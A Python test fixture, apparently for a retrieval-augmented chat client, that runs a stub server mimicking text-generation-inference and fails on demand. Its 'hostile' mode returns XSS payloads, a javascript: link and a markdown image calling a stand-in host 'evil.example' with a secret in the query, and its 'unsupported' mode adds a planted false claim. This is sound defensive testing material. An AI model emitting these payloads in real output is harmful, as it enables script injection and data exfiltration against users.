"""A model server for tests: a process of its own that speaks TGI's chat dialect, and fails on demand.

    python tests/stub_model_server.py --port 0      prints its address, listens until killed

A request behaves as its model is named ("stub-stall"), else as the header X-Stub-Behaviour says,
else as `POST /stub/behaviour` set it last ("normal" at first). `GET /stub/stats` counts requests,
finished and cancelled streams and holds the last request's body. Standard library only.
Frames as text-generation-inference 3.3 sends them.
"""

import argparse
import asyncio
import itertools
import json
import re
import sys
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from hashlib import md5
from typing import Any

NOT_IN_DOCUMENTS = "The documents do not contain an answer to this question."
SLOW_S = 1.5
Json = dict[str, Any]


@dataclass
class Stats:
    requests: int = 0
    finished: int = 0
    cancelled: int = 0
    running: int = 0
    last_cancel_at: float = 0.0  # Unix time
    last_request: Json = field(default_factory=dict)
    last_headers: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Refusal:
    """An HTTP error before any stream; `body` is plain text where it is a str."""

    status: int
    body: Json | str
    headers: tuple[str, ...] = ()


REFUSALS = {
    "401": Refusal(401, ""),
    "404": Refusal(404, {"error": {"message": "The model `x` does not exist.", "code": 404}}),
    "422": Refusal(
        422,
        {
            "error": "`inputs` must have less than 4096 tokens. Given: 9000",
            "error_type": "validation",
        },
    ),
    "422-text": Refusal(422, "Failed to deserialize the JSON body into the target type"),
    "429": Refusal(
        429, {"error": "Model is overloaded", "error_type": "overloaded"}, ("Retry-After: 7",)
    ),
    "424": Refusal(
        424, {"error": "Request failed during generation: CUDA error", "error_type": "generation"}
    ),
    "500": Refusal(500, {"error": "Incomplete generation", "error_type": "incomplete_generation"}),
    "503": Refusal(503, {"error": "unhealthy", "error_type": "healthcheck"}),
}
BEHAVIOURS = (
    *REFUSALS,
    "normal", "slow", "stall", "cut", "stall-alive", "long", "fast-long", "endless", "empty", "error-in-stream",
    "error-text-in-stream", "no-done", "length", "eos-token", "split-bytes", "crlf", "comments",
    "unsupported", "uncited", "hostile", "html-page", "unstorable",
)  # fmt: skip

BREAKS_OFF = ("stall", "stall-alive", "cut", "error-in-stream", "error-text-in-stream")


class StubServer:
    """Answers chat completions from the sources in the prompt, token by token."""

    def __init__(self, api_key: str = "", token_delay_s: float = 0.0) -> None:
        self.api_key = api_key
        self.token_delay_s = token_delay_s
        self.behaviour = "normal"
        self.stats = Stats()

    async def serve_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        try:
            while request := await _read_request(reader):
                await self._answer(*request, reader, writer)
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()
            with suppress(ConnectionError):
                await writer.wait_closed()

    async def _answer(
        self,
        method: str,
        path: str,
        headers: dict[str, str],
        body: bytes,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> None:
        path = path.partition("?")[0]
        if (method, path) == ("GET", "/stub/stats"):
            await _send(writer, 200, vars(self.stats) | {"behaviour": self.behaviour})
        elif (method, path) == ("POST", "/stub/behaviour"):
            wanted = json.loads(body)["behaviour"]
            self.behaviour = wanted if wanted in BEHAVIOURS else self.behaviour
            await _send(writer, 200 if wanted in BEHAVIOURS else 422, {"behaviour": self.behaviour})
        elif (method, path) == ("POST", "/stub/reset"):
            self.stats, self.behaviour = Stats(running=self.stats.running), "normal"
            await _send(writer, 200, {})
        elif (method, path) in (("GET", "/health"), ("GET", "/ping")):
            sick = self.behaviour == "503"
            await _send(writer, 503 if sick else 200, REFUSALS["503"].body if sick else "")
        elif (method, path) == ("GET", "/info"):
            await _send(
                writer, 200, {"model_id": "stub", "max_total_tokens": 4096, "version": "3.3.7"}
            )
        elif (method, path) == ("GET", "/v1/models"):
            await _send(
                writer,
                200,
                {
                    "object": "list",
                    "data": [{"id": "stub", "object": "model", "created": 0, "owned_by": "stub"}],
                },
            )
        elif (method, path) == ("POST", "/v1/chat/completions"):
            await self._chat(headers, body, reader, writer)
        else:
            await _send(writer, 404, "")

    async def _chat(
        self,
        headers: dict[str, str],
        body: bytes,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> None:
        self.stats.requests += 1
        self.stats.last_headers = headers
        if (
            self.api_key
            and headers.get("authorization", "").casefold() != f"bearer {self.api_key}".casefold()
        ):
            return await _send(writer, 401, "")
        try:
            asked = json.loads(body)
            asked["messages"][-1]["content"]
        except (ValueError, KeyError, IndexError, TypeError):
            return await _send(
                writer, 422, "Failed to deserialize the JSON body into the target type"
            )
        self.stats.last_request = asked
        model = str(asked.get("model") or "")
        behaviour = model.removeprefix("stub-")
        if behaviour not in BEHAVIOURS or behaviour == model:
            behaviour = headers.get("x-stub-behaviour", self.behaviour)
        if refusal := REFUSALS.get(behaviour):
            return await _send(writer, refusal.status, refusal.body, *refusal.headers)
        if behaviour == "html-page":
            return await _send(writer, 200, "<html>a proxy's login page</html>")
        if not asked.get("stream"):
            return await self._whole_answer(asked, behaviour, writer)
        await self._stream_answer(asked, behaviour, reader, writer)

    async def _whole_answer(
        self, asked: Json, behaviour: str, writer: asyncio.StreamWriter
    ) -> None:
        tokens = list(_tokens(asked, behaviour))
        message = {"role": "assistant", "content": "".join(tokens)}
        await _send(writer, 200, {
            "object": "chat.completion", "id": "", "created": int(time.time()),
            "model": asked.get("model"), "system_fingerprint": "3.3.7-stub",
            "choices": [{"index": 0, "message": message, "logprobs": None, "finish_reason": "stop"}],
            "usage": _usage(asked, len(tokens)),
        })  # fmt: skip

    async def _stream_answer(
        self,
        asked: Json,
        behaviour: str,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> None:
        """Stream until done, or until the client hangs up, as TGI does."""
        self.stats.running += 1
        hung_up = asyncio.create_task(reader.read(1))
        streaming = asyncio.create_task(self._write_frames(asked, behaviour, writer))
        try:
            await asyncio.wait({hung_up, streaming}, return_when=asyncio.FIRST_COMPLETED)
            if streaming.done() and not streaming.exception():
                self.stats.finished += 1
            else:
                self.stats.cancelled += 1
                self.stats.last_cancel_at = time.time()
        finally:
            self.stats.running -= 1
            for task in (hung_up, streaming):
                task.cancel()
            await asyncio.gather(hung_up, streaming, return_exceptions=True)
        raise ConnectionResetError  # one stream a connection: the read above may have eaten a byte

    async def _write_frames(
        self, asked: Json, behaviour: str, writer: asyncio.StreamWriter
    ) -> None:
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n"
            b"X-Accel-Buffering: no\r\nConnection: close\r\n\r\n"
        )
        await writer.drain()
        async for frame in self._frames(asked, behaviour):
            for piece in _pieces(frame, behaviour):
                writer.write(b"%x\r\n%b\r\n" % (len(piece), piece))
                await writer.drain()
                if behaviour == "split-bytes":
                    await asyncio.sleep(0)
        if behaviour != "cut":
            writer.write(b"0\r\n\r\n")
            await writer.drain()

    async def _frames(self, asked: Json, behaviour: str) -> AsyncIterator[str]:
        if behaviour == "slow":
            await asyncio.sleep(SLOW_S)
        if behaviour == "no-done":  # transformers serve: role alone first, no [DONE]
            yield _event(_chunk(asked, {"role": "assistant"}))
        if behaviour == "comments":
            yield ":\n\n: keep-alive\nevent: message\nid: 7\n\n"
        written = 0
        for token in _tokens(asked, behaviour):
            if written and written == 3 and behaviour in BREAKS_OFF:
                break
            yield _event(_chunk(asked, {"role": "assistant", "content": token}), behaviour)
            written += 1
            if pause := 0.02 if behaviour == "long" else self.token_delay_s:
                await asyncio.sleep(pause)
        while behaviour == "stall-alive":  # the router lives, the backend hangs
            yield ":\n\n"
            await asyncio.sleep(0.2)
        if behaviour == "stall":
            await asyncio.sleep(3600)
        if behaviour == "cut":
            return
        if behaviour == "error-in-stream":
            yield _event(
                {"error": {"message": "Request failed during generation", "http_status_code": 422}}
            )
            yield "data: [DONE]\n\n"
            return
        if behaviour == "error-text-in-stream":
            yield _event({"error": "CUDA out of memory"})
            return
        reason = {
            "length": "length",
            "long": "length",
            "fast-long": "length",
            "eos-token": "eos_token",
        }.get(behaviour, "stop")
        yield _event(_chunk(asked, {"role": "assistant", "content": ""}, reason), behaviour)
        if (asked.get("stream_options") or {}).get("include_usage") or behaviour == "no-done":
            yield _event(_chunk(asked, None) | {"usage": _usage(asked, written)}, behaviour)
        if behaviour != "no-done":
            yield "data: [DONE]\n\n"


def _tokens(asked: Json, behaviour: str) -> Iterator[str]:
    prompt = str(asked["messages"][-1]["content"])
    if behaviour == "empty":
        return
    if behaviour == "endless":
        yield from itertools.repeat("again ")
    if behaviour in ("long", "fast-long"):
        count = asked.get("max_tokens") or asked.get("max_completion_tokens") or 100
        yield from itertools.islice(itertools.cycle(["word ", "and ", "more, "]), int(count))
        return
    text = _answer_text(prompt, behaviour)
    if "Reply with one JSON object" in str(asked["messages"][0]["content"]):
        text = _draft(asked, text, behaviour)
    if "You compare two answers" in str(asked["messages"][0]["content"]):
        text = _judge(prompt, behaviour)
    yield from re.findall(r"\s*\S+", text)


def _answer_text(prompt: str, behaviour: str) -> str:
    """Quote the first sentence of the first source, the way a careful model would."""
    source = re.search(
        r"^<<<\S+ source \[(\d+)\][^\n]*\n(.+?)\n\S+>>>$", prompt, re.DOTALL | re.MULTILINE
    )
    if not source:
        return NOT_IN_DOCUMENTS
    lines = [
        line for line in source[2].splitlines() if line.strip() and not line.startswith(("#", "|"))
    ]
    sentence = re.split(r"(?<=[.!?])\s", " ".join(lines) or source[2])[0]
    if behaviour == "split-bytes":
        sentence = f"Größe: 10 € – 日本語 🙂 {sentence}"
    text = f"{sentence} [{source[1]}]"
    if behaviour == "unstorable":
        return f"\0{text} \ud83d."
    if behaviour == "uncited":
        return sentence
    if behaviour == "unsupported":
        return f"{text} The moon base on Europa was opened by 4,321 penguins in 1807. [{source[1]}]"
    if behaviour == "hostile":
        return (
            f"{text} <script>alert(1)</script><img src=x onerror=alert(2)> "
            "![pixel](https://evil.example/p.png?q=secret) [click](javascript:alert(3)) "
            "data: [DONE]\n\ndata: {} [99]"
        )
    return text


def _draft(asked: Json, answer: str, behaviour: str) -> str:
    """Write the JSON object with a question that a request to draft asks for."""
    if behaviour == "hostile":
        return answer
    rules = str(asked["messages"][0]["content"])
    named = " ".join(re.sub(r"\[\d+\]|[^\w\s]", "", answer).split()[:6])
    wish = md5(rules.splitlines()[1].encode()).hexdigest()  # no two styles ask in the same words
    one = {"question": f"{named} {wish[:4]} {wish[4:8]} {wish[8:12]}?", "answer": answer}
    if '"turns"' in rules:
        return json.dumps({"turns": [one, {"question": f"And {named}?", "answer": answer}]})
    return json.dumps(one)


def _judge(prompt: str, behaviour: str) -> str:
    """Choose the answer that shares more words with the expected one; "hostile": always the first."""
    if behaviour == "hostile":
        return "1, whatever it says"
    quoted = dict(re.findall(r"^<<<\S+ ([^\n]+)\n(.*?)\n\S+>>>$", prompt, re.DOTALL | re.MULTILINE))
    expected = set(quoted["expected answer"].split())
    one, other = (len(expected & set(quoted[f"answer {n}"].split())) for n in (1, 2))
    return "0" if one == other else "1" if one > other else "2"


def _chunk(asked: Json, delta: Json | None, finish_reason: str | None = None) -> Json:
    choices = (
        []
        if delta is None
        else [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish_reason}]
    )
    return {
        "object": "chat.completion.chunk", "id": "", "created": int(time.time()),
        "model": asked.get("model"), "system_fingerprint": "3.3.7-stub", "choices": choices,
    }  # fmt: skip


def _usage(asked: Json, completion_tokens: int) -> Json:
    prompt_tokens = sum(len(str(m.get("content")).split()) for m in asked["messages"])
    return {
        "prompt_tokens": prompt_tokens,
        "completion_tokens": completion_tokens,
        "total_tokens": prompt_tokens + completion_tokens,
    }


def _event(data: Json, behaviour: str = "") -> str:
    text = json.dumps(data, ensure_ascii=behaviour == "unstorable")
    if (
        behaviour == "crlf"
    ):  # no space, CRLF, data over several lines: all legal in the SSE standard
        return (
            "".join(f"data:{line}\r\n" for line in json.dumps(data, indent=1).splitlines()) + "\r\n"
        )
    return f"data: {text}\n\n"


def _pieces(frame: str, behaviour: str) -> list[bytes]:
    raw = frame.encode()
    return [raw[i : i + 3] for i in range(0, len(raw), 3)] if behaviour == "split-bytes" else [raw]


async def _read_request(
    reader: asyncio.StreamReader,
) -> tuple[str, str, dict[str, str], bytes] | None:
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
    request_line, *lines = head.strip().split("\r\n")
    method, path, _ = request_line.split(" ", 2)
    headers = {
        name.casefold(): value.strip() for name, _, value in (line.partition(":") for line in lines)
    }
    return method, path, headers, await reader.readexactly(int(headers.get("content-length", 0)))


async def _send(writer: asyncio.StreamWriter, status: int, body: Json | str, *headers: str) -> None:
    raw = body.encode() if isinstance(body, str) else json.dumps(body).encode()
    kind = "text/plain; charset=utf-8" if isinstance(body, str) else "application/json"
    head = [
        f"HTTP/1.1 {status} Stub",
        f"Content-Type: {kind}",
        f"Content-Length: {len(raw)}",
        *headers,
    ]
    writer.write("\r\n".join(head).encode() + b"\r\n\r\n" + raw)
    await writer.drain()


async def main(
    port: int, api_key: str, token_delay_s: float, announce: Callable[[str], None]
) -> None:
    stub = StubServer(api_key, token_delay_s)
    server = await asyncio.start_server(stub.serve_connection, "127.0.0.1", port)
    announce(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}")
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="A stub model server for tests.")
    parser.add_argument("--port", type=int, default=0, help="0 takes a free one")
    parser.add_argument("--api-key", default="")
    parser.add_argument("--token-delay-s", type=float, default=0.0)
    options = parser.parse_args()
    with suppress(KeyboardInterrupt):
        asyncio.run(
            main(
                options.port,
                options.api_key,
                options.token_delay_s,
                lambda url: print(url, file=sys.stdout, flush=True),
            )
        )
